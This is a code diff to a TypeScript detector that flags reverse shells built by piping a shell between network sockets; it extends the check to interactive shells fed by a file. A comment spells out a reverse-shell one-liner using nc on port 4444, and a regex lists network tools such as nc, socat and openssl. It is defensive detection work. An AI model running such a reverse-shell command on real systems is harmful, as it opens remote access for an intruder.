@@ -22,7 +22,9 @@ export function createSigns({ text, resolver, report, sockets }: Observed) {
   /** `cat pipe | sh -i | nc host 4444 > pipe`, and telnet, openssl or socat in place of nc. */
   function lookForShellBetweenSockets(commands: readonly Command[]): void {
     const names = commands.map(resolver.nameOf)
-    const shell = names.findIndex((name, index) => index > 0 && isShell(name))
+    const shell = names.findIndex(
+      (name, index) => isShell(name) && (index > 0 || isInteractive(commands[0])),
+    )
     const sender = names.findIndex(
       (name, index) => index > shell && /^(nc|ncat|netcat|telnet|openssl|socat)$/.test(name),
     )
@@ -32,6 +34,16 @@ export function createSigns({ text, resolver, report, sockets }: Observed) {
         start: first.start,
         end: commands.at(-1)?.end ?? first.end,
       })
+  }
+
+  /** `sh -i < pipe`: a shell that is fed by a file and reads no script. */
+  function isInteractive(command: Command | undefined): boolean {
+    if (command === undefined) return false
+    const words = command.words.map((word) => resolver.resolve(word).text)
+    return (
+      words.includes('-i') ||
+      (words.length === 1 && command.redirects.some(({ operator }) => operator === '<'))
+    )
   }
 
   function lookForHiddenName(command: Command, first: Value | undefined): void {
